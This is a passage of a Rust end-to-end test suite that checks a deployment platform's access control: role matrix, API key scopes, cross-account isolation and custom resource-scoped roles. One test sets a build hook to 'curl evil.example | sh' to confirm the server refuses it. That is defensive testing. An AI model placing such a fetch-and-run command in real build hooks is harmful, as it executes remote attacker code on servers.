//! Access control: the route × role matrix, invitations and member management, TOTP sign-in,
//! password reset through a real SMTP server, audit retention and who sees which audit rows.

use sensei_control_plane::audit::{self, Actor, AuditEvent, Outcome};
use sensei_e2e::{
    base32_decode, error_code, eventually, session_cookie, totp_code as code, SmtpSink, TestPlane,
};
use serde_json::{json, Value};
use uuid::Uuid;

const PW: &str = "correct horse battery";
const ROLES: [&str; 5] = ["viewer", "operator", "developer", "admin", "owner"];

/// What a route demands, written out here by hand: the test must not derive its expectations
/// from the code it checks.
#[derive(Clone, Copy, Debug)]
enum Need {
    Public,
    /// Any signed-in member, not an API key.
    Session,
    /// Any member or API key, whatever its role or scopes.
    Anyone,
    /// A signed-in member with at least this role (index into ROLES), not an API key.
    SessionRole(usize),
    /// A member with at least this role, or an API key carrying the scope.
    Scoped(usize, &'static str),
}

fn need(method: &str, path: &str) -> Option<Need> {
    use Need::*;
    let (viewer, operator, developer, admin, owner) = (0, 1, 2, 3, 4);
    Some(match (method, path) {
        ("GET", "/healthz" | "/livez" | "/readyz" | "/metrics" | "/openapi.json") => Public,
        (
            "POST",
            "/v1/auth/signup"
            | "/v1/auth/login"
            | "/v1/auth/password-reset"
            | "/v1/auth/password-reset/confirm"
            | "/v1/auth/login/webauthn"
            | "/v1/invitations/accept",
        ) => Public,
        ("POST", "/v1/auth/logout" | "/v1/auth/sessions/sign-out-everywhere") => Session,
        ("POST", "/v1/auth/mfa/webauthn/registrations" | "/v1/auth/mfa/webauthn/keys")
        | ("GET", "/v1/auth/mfa/webauthn/keys")
        | ("PATCH" | "DELETE", "/v1/auth/mfa/webauthn/keys/{id}") => Session,
        ("GET", "/v1/auth/me") => Anyone,
        ("GET", "/v1/auth/sessions") => Session,
        ("DELETE", "/v1/auth/sessions/{id}") => Session,
        (
            "POST",
            "/v1/auth/mfa/totp" | "/v1/auth/mfa/totp/confirm" | "/v1/auth/mfa/totp/disable",
        ) => Session,
        ("GET" | "POST", "/v1/api-keys") | ("DELETE", "/v1/api-keys/{id}") => SessionRole(admin),
        ("GET", "/v1/audit" | "/v1/audit/export") => Scoped(viewer, "audit:read"),
        ("GET", "/v1/audit/sinks") => Scoped(admin, "audit:sinks"),
        ("POST", "/v1/audit/sinks") | ("DELETE", "/v1/audit/sinks/{id}") => SessionRole(admin),
        ("GET", "/v1/members") => Scoped(viewer, "members:read"),
        ("PATCH" | "DELETE", "/v1/members/{id}") => SessionRole(admin),
        ("GET" | "POST", "/v1/invitations") | ("DELETE", "/v1/invitations/{id}") => {
            SessionRole(admin)
        }
        ("GET", "/v1/account") => Scoped(viewer, "account:read"),
        ("PATCH", "/v1/account") => SessionRole(admin),
        ("GET", "/v1/account/sso") => Scoped(viewer, "account:read"),
        ("PUT" | "DELETE", "/v1/account/sso") => SessionRole(admin),
        ("DELETE", "/v1/account") | ("POST", "/v1/account/transfer-ownership") => {
            SessionRole(owner)
        }
        ("GET", "/v1/servers" | "/v1/servers/{id}" | "/v1/servers/events") => {
            Scoped(viewer, "servers:read")
        }
        ("POST", "/v1/servers" | "/v1/servers/{id}/enrollment-token")
        | ("DELETE", "/v1/servers/{id}" | "/v1/servers/{id}/agent-certificate") => {
            Scoped(developer, "servers:write")
        }
        ("GET", "/v1/projects" | "/v1/projects/{id}" | "/v1/projects/{id}/dns") => {
            Scoped(viewer, "projects:read")
        }
        ("POST", "/v1/projects")
        | ("PATCH" | "DELETE", "/v1/projects/{id}")
        | ("PUT" | "DELETE", "/v1/projects/{id}/dns") => Scoped(developer, "projects:write"),
        ("GET", "/v1/deployments" | "/v1/deployments/{id}" | "/v1/deployments/{id}/logs") => {
            Scoped(viewer, "deployments:read")
        }
        ("POST", "/v1/deployments" | "/v1/deployments/{id}/rollback") => {
            Scoped(operator, "deployments:write")
        }
        (
            "GET",
            "/v1/rollouts"
            | "/v1/rollouts/{id}"
            | "/v1/rollouts/{id}/events"
            | "/v1/rollouts/{id}/targets",
        ) => Scoped(viewer, "rollouts:read"),
        (
            "POST",
            "/v1/rollouts"
            | "/v1/rollouts/{id}/pause"
            | "/v1/rollouts/{id}/resume"
            | "/v1/rollouts/{id}/abort",
        ) => Scoped(operator, "rollouts:write"),
        ("POST", "/v1/rollouts/{id}/approve") => Scoped(operator, "rollouts:approve"),
        ("GET", "/v1/roles") => Scoped(viewer, "members:read"),
        ("POST", "/v1/roles") | ("PATCH" | "DELETE", "/v1/roles/{id}") => SessionRole(admin),
        _ => return None,
    })
}

#[derive(Clone)]
enum Caller {
    Nobody,
    Cookie(String),
    Key(String),
}

/// Sends one request and answers the status and error code. The body is only read for
/// errors (a successful event stream would never end).
async fn call(t: &TestPlane, method: &str, path: &str, caller: &Caller) -> (u16, String) {
    call_with(t, method, path, caller, json!({})).await
}

async fn call_with(
    t: &TestPlane,
    method: &str,
    path: &str,
    caller: &Caller,
    body: Value,
) -> (u16, String) {
    let m: reqwest::Method = method.parse().expect("method");
    let mut req = t.http.request(m, t.url(path));
    if method != "GET" {
        req = req.json(&body);
    }
    req = match caller {
        Caller::Nobody => req,
        Caller::Cookie(c) => req.header("cookie", c),
        Caller::Key(k) => req.bearer_auth(k),
    };
    let r = req.send().await.expect("request");
    let status = r.status().as_u16();
    if status < 400 {
        return (status, String::new());
    }
    let body: Value = r.json().await.unwrap_or(Value::Null);
    (status, error_code(&body).to_owned())
}

/// Every route of the OpenAPI document, logout and sign-out-everywhere last (they end the
/// caller's session).
async fn all_routes(t: &TestPlane) -> Vec<(String, String)> {
    let mut routes = t.documented_routes().await;
    routes.sort_by_key(|(_, p)| p.contains("logout") || p.contains("sign-out-everywhere"));
    assert!(routes.len() > 50, "only {} routes", routes.len());
    routes
}

/// Invites `email` as `role` (by `admin_cookie`) and accepts; answers the new member's cookie
/// and id.
async fn join(t: &TestPlane, admin_cookie: &str, email: &str, role: &str) -> (String, Uuid) {
    let (status, inv) = t
        .post(
            "/v1/invitations",
            admin_cookie,
            json!({"email": email, "role": role}),
        )
        .await;
    assert_eq!(status, 201, "{inv}");
    let r = t
        .http
        .post(t.url("/v1/invitations/accept"))
        .json(&json!({"token": inv["token"], "password": PW}))
        .send()
        .await
        .expect("accept");
    assert_eq!(r.status(), 201);
    let cookie = session_cookie(&r).expect("cookie");
    let body: Value = r.json().await.expect("json");
    assert_eq!(body["role"], role);
    let id = body["id"].as_str().expect("id").parse().expect("uuid");
    (cookie, id)
}

#[tokio::test]
async fn every_route_obeys_the_role_matrix() {
    let t = TestPlane::start().await;
    let (owner, _) = t.signup("owner@a.example", PW).await;
    let mut members = Vec::new();
    for role in ROLES {
        let email = format!("{role}.member@a.example");
        let (cookie, id) = join(&t, &owner, &email, role).await;
        members.push((role, email, cookie, id));
    }
    // Account A's resources, for the other account to aim at.
    let (_, server) = t
        .post(
            "/v1/servers",
            &owner,
            json!({"name": "web-1", "host": "192.0.2.10", "transport": "ssh", "username": "deploy", "auth": "key"}),
        )
        .await;
    let server_id = server["id"].as_str().expect("server").to_owned();
    let (_, project) = t
        .post(
            "/v1/projects",
            &owner,
            json!({"name": "site", "repo_url": "https://example.com/site.git", "deploy_path": "/srv/site"}),
        )
        .await;
    let project_id = project["id"].as_str().expect("project").to_owned();
    let (status, deployment) = t
        .post(
            "/v1/deployments",
            &owner,
            json!({"project_id": project_id, "server_id": server_id, "ref": "main"}),
        )
        .await;
    assert_eq!(status, 201, "{deployment}");
    let deployment_id = deployment["id"].as_str().expect("deployment").to_owned();
    let (status, rollout) = t
        .post(
            "/v1/rollouts",
            &owner,
            json!({"project_id": project_id, "ref": "main", "server_ids": [server_id],
                   "strategy": {"canary": 0, "manual_approval": true}}),
        )
        .await;
    assert_eq!(status, 201, "{rollout}");
    let rollout_id = rollout["id"].as_str().expect("rollout").to_owned();
    let viewer_id = members[0].3.to_string();

    let routes = all_routes(&t).await;
    for (method, path) in &routes {
        assert!(
            need(method, path).is_some(),
            "{method} {path} is not in this test's matrix: add what it demands"
        );
    }

    // Another account's owner: everything of account A is "not found", and stays as it was.
    let (stranger, _) = {
        let r = t
            .http
            .post(t.url("/v1/auth/signup"))
            .json(&json!({"email": "owner@b.example", "password": PW, "account_name": "B"}))
            .send()
            .await
            .expect("signup");
        (session_cookie(&r).expect("cookie"), ())
    };
    let a_path = |path: &str| {
        let id = if path.starts_with("/v1/servers/") {
            &server_id
        } else if path.starts_with("/v1/projects/") {
            &project_id
        } else if path.starts_with("/v1/deployments/") {
            &deployment_id
        } else if path.starts_with("/v1/rollouts/") {
            &rollout_id
        } else {
            &viewer_id
        };
        path.replace("{id}", id)
    };
    let before = t.get(&format!("/v1/rollouts/{rollout_id}"), &owner).await.1;
    for (method, path) in &routes {
        if path.contains("logout") || path.contains("sign-out-everywhere") {
            continue;
        }
        // Valid bodies where a route takes one, so that only the ownership check can stop it.
        let body = match path.as_str() {
            "/v1/members/{id}" => json!({"role": "admin"}),
            "/v1/roles/{id}" => json!({"name": "hijacked"}),
            "/v1/projects/{id}" => json!({"name": "hijacked"}),
            "/v1/auth/mfa/webauthn/keys/{id}" => json!({"name": "hijacked"}),
            "/v1/projects/{id}/dns" => json!({"zone": "hijacked.test", "server": "192.0.2.53:53",
                "key_name": "k", "secret": "c2Vuc2VpLXRlc3Qtc2VjcmV0LTMyLWJ5dGVzLWxvbmc="}),
            _ => json!({}),
        };
        let (status, code) = call_with(
            &t,
            method,
            &a_path(path),
            &Caller::Cookie(stranger.clone()),
            body,
        )
        .await;
        if path.contains("{id}") {
            assert_eq!(
                status, 404,
                "stranger: {method} {path} answered {status} {code}"
            );
        } else {
            assert_ne!(status, 401, "stranger: {method} {path}");
            assert_ne!(status, 403, "stranger: {method} {path}: {code}");
        }
    }
    let db = t.db().await;
    let untouched: bool = db
        .query_one(
            "SELECT (SELECT deleted_at IS NULL FROM servers WHERE id = $1::text::uuid) \
               AND (SELECT deleted_at IS NULL AND name = 'site' FROM projects WHERE id = $2::text::uuid) \
               AND (SELECT role = 'viewer' FROM users WHERE id = $3::text::uuid)",
            &[&server_id, &project_id, &viewer_id],
        )
        .await
        .expect("query")
        .get(0);
    assert!(untouched, "another account changed account A's data");
    let after = t.get(&format!("/v1/rollouts/{rollout_id}"), &owner).await.1;
    assert_eq!(before["state"], after["state"]);

    // Each role of account A, on random ids: allowed means "not 401/403".
    let random = |path: &str| path.replace("{id}", &Uuid::new_v4().to_string());
    for (rank, (role, email, cookie, _)) in members.iter().enumerate() {
        let caller = Caller::Cookie(cookie.clone());
        for (method, path) in &routes {
            let caller = if path.contains("logout") {
                // sign-out-everywhere ran just before: sign in again.
                Caller::Cookie(t.login(email, PW).await)
            } else {
                caller.clone()
            };
            let (status, code) = call(&t, method, &random(path), &caller).await;
            let allowed = match need(method, path).expect("matrix") {
                Need::Public | Need::Session | Need::Anyone => true,
                Need::SessionRole(min) | Need::Scoped(min, _) => rank >= min,
            };
            if allowed {
                assert!(
                    status != 401 && status != 403,
                    "{role}: {method} {path} refused: {status} {code}"
                );
            } else {
                assert_eq!(
                    (status, code.as_str()),
                    (403, "insufficient_scope"),
                    "{role}: {method} {path} allowed"
                );
            }
        }
    }

    // An API key carries two scopes: it gets those and nothing else, never session routes.
    // (Every member signed out everywhere at the end of their pass.)
    let admin_cookie = t.login("admin.member@a.example", PW).await;
    let (status, key) = t
        .post(
            "/v1/api-keys",
            &admin_cookie,
            json!({"name": "ci", "scopes": ["servers:read", "deployments:write"]}),
        )
        .await;
    assert_eq!(status, 201, "{key}");
    let key = Caller::Key(key["secret"].as_str().expect("secret").to_owned());
    for (method, path) in &routes {
        let (status, code) = call(&t, method, &random(path), &key).await;
        match need(method, path).expect("matrix") {
            Need::Public | Need::Anyone => {
                assert!(status != 401 && status != 403, "key: {method} {path}")
            }
            Need::Session | Need::SessionRole(_) => assert_eq!(
                (status, code.as_str()),
                (403, "session_required"),
                "key: {method} {path}"
            ),
            Need::Scoped(_, scope) if ["servers:read", "deployments:write"].contains(&scope) => {
                assert!(
                    status != 401 && status != 403,
                    "key: {method} {path}: {code}"
                )
            }
            Need::Scoped(..) => assert_eq!(
                (status, code.as_str()),
                (403, "insufficient_scope"),
                "key: {method} {path}"
            ),
        }
    }

    // Nobody signed in: only the public routes answer.
    for (method, path) in &routes {
        let (status, _) = call(&t, method, &random(path), &Caller::Nobody).await;
        match need(method, path).expect("matrix") {
            Need::Public => assert_ne!(status, 401, "{method} {path}"),
            _ => assert_eq!(status, 401, "anonymous: {method} {path}"),
        }
    }
}

/// The ids of one resource of each kind, for a path template.
struct Ids {
    server: String,
    project: String,
    deployment: String,
    rollout: String,
}

impl Ids {
    fn fill(&self, path: &str) -> String {
        let id = if path.starts_with("/v1/servers/") {
            &self.server
        } else if path.starts_with("/v1/projects/") {
            &self.project
        } else if path.starts_with("/v1/deployments/") {
            &self.deployment
        } else if path.starts_with("/v1/rollouts/") {
            &self.rollout
        } else {
            return path.replace("{id}", &Uuid::new_v4().to_string());
        };
        path.replace("{id}", id)
    }
}

fn id_of(v: &Value) -> String {
    v["id"].as_str().expect("id").to_owned()
}

/// The permissions of the custom role in the test below.
const STAGING_DEPLOYER: [&str; 8] = [
    "servers:read",
    "projects:read",
    "deployments:read",
    "deployments:write",
    "rollouts:read",
    "rollouts:write",
    "rollouts:approve",
    "members:read",
];

#[tokio::test]
async fn a_custom_role_with_a_resource_scope_reaches_only_what_it_names() {
    let t = TestPlane::start().await;
    let (owner, _) = t.signup("owner@scope.example", PW).await;
    let server = |name: &str, env: &str| {
        json!({"name": name, "host": "192.0.2.20", "transport": "ssh", "username": "deploy",
               "auth": "key", "labels": {"env": env}})
    };
    let staging = id_of(
        &t.post("/v1/servers", &owner, server("stg-1", "staging"))
            .await
            .1,
    );
    let prod = id_of(
        &t.post("/v1/servers", &owner, server("prd-1", "prod"))
            .await
            .1,
    );
    let project = |name: &str| json!({"name": name, "repo_url": "https://example.com/x.git", "deploy_path": format!("/srv/{name}")});
    let mine = id_of(&t.post("/v1/projects", &owner, project("mine")).await.1);
    let theirs = id_of(&t.post("/v1/projects", &owner, project("theirs")).await.1);
    let deploy = |p: &str, s: &str| json!({"project_id": p, "server_id": s, "ref": "main"});
    let roll = |p: &str, servers: &[&str]| {
        json!({"project_id": p, "ref": "main", "server_ids": servers,
               "strategy": {"canary": 0, "manual_approval": true}})
    };
    let mut made = Vec::new();
    for (path, body) in [
        ("/v1/deployments", deploy(&mine, &staging)),
        ("/v1/deployments", deploy(&theirs, &staging)),
        ("/v1/deployments", deploy(&mine, &prod)),
        ("/v1/rollouts", roll(&mine, &[&staging])),
        ("/v1/rollouts", roll(&theirs, &[&staging])),
        ("/v1/rollouts", roll(&mine, &[&staging, &prod])),
    ] {
        let (status, v) = t.post(path, &owner, body).await;
        assert_eq!(status, 201, "{path}: {v}");
        made.push(id_of(&v));
    }
    // The scheduler queues each rollout's first batch on its own tick. Every comparison of
    // deployments below needs those jobs in place: no later batch can start, as no target on
    // an unreachable address succeeds.
    for id in &made[3..] {
        let path = format!("/v1/rollouts/{id}");
        assert!(
            eventually(std::time::Duration::from_secs(30), || async {
                !t.get(&path, &owner).await.1["current_batch"].is_null()
            })
            .await,
            "rollout {id} never queued its first batch"
        );
    }
    let inside = Ids {
        server: staging.clone(),
        project: mine.clone(),
        deployment: made[0].clone(),
        rollout: made[3].clone(),
    };
    // Each out of reach for its own reason: another project, a server without the label, a
    // rollout with one target outside.
    let outside = [
        Ids {
            server: prod.clone(),
            project: theirs.clone(),
            deployment: made[1].clone(),
            rollout: made[4].clone(),
        },
        Ids {
            server: prod.clone(),
            project: theirs.clone(),
            deployment: made[2].clone(),
            rollout: made[5].clone(),
        },
    ];

    // The role and the member.
    let (status, role) = t
        .post(
            "/v1/roles",
            &owner,
            json!({"name": "staging deployer", "permissions": STAGING_DEPLOYER}),
        )
        .await;
    assert_eq!(status, 201, "{role}");
    let (cookie, member_id) = join(&t, &owner, "deployer@scope.example", "viewer").await;
    let (status, member) = t
        .patch(
            &format!("/v1/members/{member_id}"),
            &owner,
            json!({"role": "Staging Deployer",
                   "resource_scope": {"projects": [mine], "server_labels": {"env": "staging"}}}),
        )
        .await;
    assert_eq!(status, 200, "{member}");
    assert_eq!(member["role"], "staging deployer");
    assert_eq!(member["resource_scope"]["server_labels"]["env"], "staging");
    let me = t.get("/v1/auth/me", &cookie).await.1;
    assert_eq!(me["user"]["role"], "staging deployer");
    let mut granted: Vec<&str> = me["permissions"]
        .as_array()
        .expect("permissions")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    granted.sort();
    let mut expected = STAGING_DEPLOYER.to_vec();
    expected.sort();
    assert_eq!(granted, expected);

    // Every route × the custom role: the route table answers by the role's permissions.
    let routes = all_routes(&t).await;
    let caller = Caller::Cookie(cookie.clone());
    let random = |path: &str| path.replace("{id}", &Uuid::new_v4().to_string());
    for (method, path) in &routes {
        if path.contains("logout") || path.contains("sign-out-everywhere") {
            continue;
        }
        let (status, code) = call(&t, method, &random(path), &caller).await;
        let allowed = match need(method, path).expect("matrix") {
            Need::Public | Need::Session | Need::Anyone => true,
            Need::SessionRole(_) => false,
            Need::Scoped(_, scope) => STAGING_DEPLOYER.contains(&scope),
        };
        if allowed {
            assert!(
                status != 401 && status != 403,
                "custom role: {method} {path} refused: {status} {code}"
            );
        } else {
            assert_eq!(
                (status, code.as_str()),
                (403, "insufficient_scope"),
                "custom role: {method} {path} allowed"
            );
        }
    }

    // Every route naming a resource × the scope: inside answers, outside is "not found"
    // (exactly as another account's), and nothing outside changes.
    let before: Vec<Value> = {
        let mut v = Vec::new();
        for id in &made[3..] {
            v.push(t.get(&format!("/v1/rollouts/{id}"), &owner).await.1["state"].clone());
        }
        v
    };
    let resource_routes: Vec<&(String, String)> = routes
        .iter()
        .filter(|(_, p)| {
            p.contains("{id}")
                && [
                    "/v1/servers/",
                    "/v1/projects/",
                    "/v1/deployments/",
                    "/v1/rollouts/",
                ]
                .iter()
                .any(|prefix| p.starts_with(prefix))
        })
        .collect();
    assert!(resource_routes.len() >= 20, "{resource_routes:?}");
    for (method, path) in &resource_routes {
        let Some(Need::Scoped(_, scope)) = need(method, path) else {
            panic!("{method} {path}: a resource route is scoped");
        };
        if !STAGING_DEPLOYER.contains(&scope) {
            continue;
        }
        for ids in &outside {
            let (status, code) = call(&t, method, &ids.fill(path), &caller).await;
            assert_eq!(
                (status, code.as_str()),
                (404, "not_found"),
                "outside the scope: {method} {path}"
            );
        }
        if *method == "GET" && !path.ends_with("/events") {
            let (status, code) = call(&t, method, &inside.fill(path), &caller).await;
            assert_eq!(status, 200, "inside the scope: {method} {path}: {code}");
        }
    }
    for (id, state) in made[3..].iter().zip(&before) {
        let now = t.get(&format!("/v1/rollouts/{id}"), &owner).await.1;
        assert_eq!(
            &now["state"], state,
            "rollout {id} changed from outside the scope"
        );
    }

    // Lists hold only what is in reach.
    let ids = |v: &Value, key: &str| -> Vec<String> {
        let mut ids: Vec<String> = v[key].as_array().expect("list").iter().map(id_of).collect();
        ids.sort();
        ids
    };
    assert_eq!(
        ids(&t.get("/v1/servers", &cookie).await.1, "servers"),
        vec![staging.clone()]
    );
    assert_eq!(
        ids(&t.get("/v1/projects", &cookie).await.1, "projects"),
        vec![mine.clone()]
    );
    // The rollouts queued jobs too: every deployment of this project on this server, and no
    // other.
    let mut in_reach: Vec<String> = t
        .db()
        .await
        .query(
            "SELECT id::text FROM deployments WHERE project_id = $1::text::uuid \
             AND server_id = $2::text::uuid",
            &[&mine, &staging],
        )
        .await
        .expect("deployments")
        .iter()
        .map(|r| r.get(0))
        .collect();
    in_reach.sort();
    assert!(in_reach.contains(&made[0]) && !in_reach.contains(&made[1]));
    assert_eq!(
        ids(&t.get("/v1/deployments", &cookie).await.1, "deployments"),
        in_reach
    );
    assert_eq!(
        ids(&t.get("/v1/rollouts", &cookie).await.1, "rollouts"),
        [made[3].clone()]
    );
    // The owner still sees everything.
    assert_eq!(
        t.get("/v1/servers", &owner).await.1["servers"]
            .as_array()
            .map(Vec::len),
        Some(2)
    );

    // Creating: a deploy or rollout naming anything outside is refused and nothing is queued.
    let db = t.db().await;
    let count = |table: &'static str| {
        let db = &db;
        async move {
            db.query_one(&format!("SELECT count(*) FROM {table}"), &[])
                .await
                .expect("count")
                .get::<_, i64>(0)
        }
    };
    // Deployments outside rollouts: the rollouts made above keep queueing their next batches
    // meanwhile, and a refused rollout would show as a new row in `rollouts`.
    let direct = "deployments WHERE rollout_id IS NULL";
    let (deployments, rollouts) = (count(direct).await, count("rollouts").await);
    for body in [deploy(&theirs, &staging), deploy(&mine, &prod)] {
        let (status, v) = t.post("/v1/deployments", &cookie, body).await;
        assert_eq!(
            (status, error_code(&v)),
            (403, "outside_resource_scope"),
            "{v}"
        );
    }
    for body in [roll(&theirs, &[&staging]), roll(&mine, &[&staging, &prod])] {
        let (status, v) = t.post("/v1/rollouts", &cookie, body).await;
        assert_eq!(
            (status, error_code(&v)),
            (403, "outside_resource_scope"),
            "{v}"
        );
        assert!(
            !v.to_string().contains(&prod),
            "the refusal names no server: {v}"
        );
    }
    // A selector resolves within the scope: it matches nothing outside, and tells nothing.
    let (status, v) = t
        .post(
            "/v1/rollouts",
            &cookie,
            json!({"project_id": mine, "ref": "main", "selector": {"labels": {"env": "prod"}}}),
        )
        .await;
    assert_eq!((status, error_code(&v)), (422, "no_targets"), "{v}");
    assert_eq!(count(direct).await, deployments);
    assert_eq!(count("rollouts").await, rollouts);
    let (status, v) = t
        .post("/v1/deployments", &cookie, deploy(&mine, &staging))
        .await;
    assert_eq!(status, 201, "inside the scope a deploy is queued: {v}");

    // The role's permissions change on the member's next request; a role in use stays.
    let role_id = id_of(&role);
    let (status, _) = t
        .patch(
            &format!("/v1/roles/{role_id}"),
            &owner,
            json!({"permissions": ["servers:read"]}),
        )
        .await;
    assert_eq!(status, 200);
    let (status, v) = t
        .post("/v1/deployments", &cookie, deploy(&mine, &staging))
        .await;
    assert_eq!((status, error_code(&v)), (403, "insufficient_scope"), "{v}");
    let r = t
        .http
        .delete(t.url(&format!("/v1/roles/{role_id}")))
        .header("cookie", &owner)
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), 409);
    let v: Value = r.json().await.expect("json");
    assert_eq!(error_code(&v), "role_in_use");
    let actions = t.audit_actions().await;
    for a in [
        "role.created",
        "role.updated",
        "member.role_changed",
        "member.scope_changed",
    ] {
        assert!(actions.iter().any(|x| x == a), "{a} not audited");
    }
}

#[tokio::test]
async fn a_scoped_custom_member_changes_no_project_touches_no_other_key_and_ownership_clears_both()
{
    let t = TestPlane::start().await;
    let (owner, _) = t.signup("owner@limits.example", PW).await;
    let (status, project) = t
        .post(
            "/v1/projects",
            &owner,
            json!({"name": "shared", "repo_url": "https://example.com/x.git", "deploy_path": "/srv/shared"}),
        )
        .await;
    assert_eq!(status, 201, "{project}");
    let project = id_of(&project);
    let (status, key) = t
        .post(
            "/v1/api-keys",
            &owner,
            json!({"name": "ci", "scopes": ["servers:read"]}),
        )
        .await;
    assert_eq!(status, 201, "{key}");
    let owner_key = key["secret"].as_str().expect("secret").to_owned();
    let owner_key_id = key["id"].as_str().expect("key id").to_owned();
    let (status, _) = t
        .post(
            "/v1/roles",
            &owner,
            json!({"name": "tinkerer", "permissions": ["servers:read", "projects:read",
                   "projects:write", "api_keys:read", "api_keys:write"]}),
        )
        .await;
    assert_eq!(status, 201);
    let (member, member_id) = join(&t, &owner, "tinkerer@limits.example", "viewer").await;
    let (status, v) = t
        .patch(
            &format!("/v1/members/{member_id}"),
            &owner,
            json!({"role": "tinkerer", "resource_scope": {"server_labels": {"env": "staging"}}}),
        )
        .await;
    assert_eq!(status, 200, "{v}");

    // A project reaches every server it is deployed to: a server-scoped member may read it,
    // not change it.
    let (status, v) = t
        .patch(
            &format!("/v1/projects/{project}"),
            &member,
            json!({"hooks": {"build": ["curl evil.example | sh"]}}),
        )
        .await;
    assert_eq!(
        (status, error_code(&v)),
        (403, "outside_resource_scope"),
        "{v}"
    );
    let r = t
        .http
        .delete(t.url(&format!("/v1/projects/{project}")))
        .header("cookie", &member)
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), 403);
    let (status, v) = t.get(&format!("/v1/projects/{project}"), &owner).await;
    assert_eq!(status, 200);
    assert_eq!(v["hooks"]["build"], json!([]), "{v}");

    // Keys: a custom role sees and revokes its own only.
    let (_, listed) = t.get("/v1/api-keys", &member).await;
    assert_eq!(
        listed["api_keys"].as_array().map(Vec::len),
        Some(0),
        "{listed}"
    );
    let r = t
        .http
        .delete(t.url(&format!("/v1/api-keys/{owner_key_id}")))
        .header("cookie", &member)
        .send()
        .await
        .expect("revoke");
    assert_eq!(r.status(), 404);
    assert_eq!(t.get_with_key("/v1/servers", &owner_key).await.0, 200);
    let (status, _) = t
        .post(
            "/v1/api-keys",
            &member,
            json!({"name": "mine", "scopes": ["servers:read"]}),
        )
        .await;
    assert_eq!(status, 201);
    let (_, listed) = t.get("/v1/api-keys", &member).await;
    assert_eq!(listed["api_keys"].as_array().map(Vec::len), Some(1));
    let (_, listed) = t.get("/v1/api-keys", &owner).await;
    assert_eq!(
        listed["api_keys"].as_array().map(Vec::len),
        Some(2),
        "the owner sees all"
    );

    // Ownership handed to them: the built-in owner role, the whole account.
    let (status, v) = t
        .post(
            "/v1/account/transfer-ownership",
            &owner,
            json!({"user_id": member_id}),
        )
        .await;
    assert!(status < 300, "{status} {v}");
    let me = t.get("/v1/auth/me", &member).await.1;
    assert_eq!(me["user"]["role"], "owner", "{me}");
    assert_eq!(me["resource_scope"], Value::Null);
    assert!(me["permissions"]
        .as_array()
        .expect("permissions")
        .iter()
        .any(|p| p == "account:owner"));
    let (status, _) = t
        .patch(
            &format!("/v1/projects/{project}"),
            &member,
            json!({"name": "renamed"}),
        )
        .await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn bad_custom_roles_and_scopes_are_refused_and_change_nothing() {
    let t = TestPlane::start().await;
    let (owner, signup) = t.signup("owner@roles.example", PW).await;
    let owner_id = signup["user"]["id"].as_str().expect("id").to_owned();
    let (admin, _) = join(&t, &owner, "admin@roles.example", "admin").await;
    let (_, member_id) = join(&t, &owner, "dev@roles.example", "developer").await;
    for (body, status, code) in [
        (
            json!({"name": "x", "permissions": ["members:write"]}),
            422,
            "invalid_permissions",
        ),
        (
            json!({"name": "x", "permissions": ["account:owner"]}),
            422,
            "invalid_permissions",
        ),
        (
            json!({"name": "x", "permissions": ["servers:fly"]}),
            422,
            "invalid_permissions",
        ),
        (
            json!({"name": "x", "permissions": []}),
            422,
            "invalid_permissions",
        ),
        (
            json!({"name": "", "permissions": ["servers:read"]}),
            422,
            "invalid_name",
        ),
        (
            json!({"name": "Admin", "permissions": ["servers:read"]}),
            409,
            "role_taken",
        ),
    ] {
        let (s, v) = t.post("/v1/roles", &admin, body.clone()).await;
        assert_eq!((s, error_code(&v)), (status, code), "{body}");
    }
    let (s, v) = t
        .post(
            "/v1/roles",
            &admin,
            json!({"name": "readers", "permissions": ["servers:read"]}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let (s, v) = t
        .post(
            "/v1/roles",
            &admin,
            json!({"name": "READERS", "permissions": ["servers:read"]}),
        )
        .await;
    assert_eq!((s, error_code(&v)), (409, "role_taken"));
    let listed = t.get("/v1/roles", &admin).await.1;
    assert_eq!(listed["custom"].as_array().map(Vec::len), Some(1));
    assert!(listed["delegable"]
        .as_array()
        .expect("delegable")
        .iter()
        .all(|p| p != "members:write"));

    let member = format!("/v1/members/{member_id}");
    for (body, status, code) in [
        (json!({"role": "nobody"}), 422, "invalid_role"),
        (json!({"resource_scope": {}}), 422, "invalid_resource_scope"),
        (
            json!({"resource_scope": {"projects": []}}),
            422,
            "invalid_resource_scope",
        ),
        (
            json!({"resource_scope": {"projects": [Uuid::new_v4()]}}),
            422,
            "invalid_resource_scope",
        ),
        (
            json!({"resource_scope": {"tenants": ["x"]}}),
            422,
            "invalid_field",
        ),
        (json!({}), 422, "nothing_to_change"),
    ] {
        let (s, v) = t.patch(&member, &admin, body.clone()).await;
        assert_eq!((s, error_code(&v)), (status, code), "{body}: {v}");
    }
    // Plain ASCII names only: nothing that could pass for a built-in role.
    for name in ["\u{430}dmin", "owner\u{200b}", "ops\u{202e}"] {
        let (s, v) = t
            .post(
                "/v1/roles",
                &admin,
                json!({"name": name, "permissions": ["servers:read"]}),
            )
            .await;
        assert_eq!((s, error_code(&v)), (422, "invalid_name"), "{name:?}");
    }
    // A scope's labels follow the rules of server labels (no NUL, which PostgreSQL refuses).
    let (s, v) = t
        .patch(
            &member,
            &admin,
            json!({"resource_scope": {"server_labels": {"env": "a\u{0}b"}}}),
        )
        .await;
    assert_eq!((s, error_code(&v)), (422, "invalid_resource_scope"), "{v}");
    // Admins manage members and the account, which no scope narrows: no scope for them.
    let (_, other_admin) = join(&t, &owner, "admin2@roles.example", "admin").await;
    let (s, v) = t
        .patch(
            &format!("/v1/members/{other_admin}"),
            &owner,
            json!({"resource_scope": {"server_labels": {"env": "x"}}}),
        )
        .await;
    assert_eq!((s, error_code(&v)), (422, "invalid_resource_scope"), "{v}");
    let (s, v) = t
        .patch(
            &member,
            &owner,
            json!({"role": "admin", "resource_scope": {"server_labels": {"env": "x"}}}),
        )
        .await;
    assert_eq!((s, error_code(&v)), (422, "invalid_resource_scope"), "{v}");
    // Owners reach everything: no scope for them, and an admin cannot touch them anyway.
    let (s, v) = t
        .patch(
            &format!("/v1/members/{owner_id}"),
            &owner,
            json!({"resource_scope": {"server_labels": {"env": "x"}}}),
        )
        .await;
    assert_eq!((s, error_code(&v)), (422, "invalid_resource_scope"), "{v}");
    let db = t.db().await;
    let row = db
        .query_one(
            "SELECT role, custom_role_id IS NULL, resource_scope IS NULL FROM users WHERE id = $1",
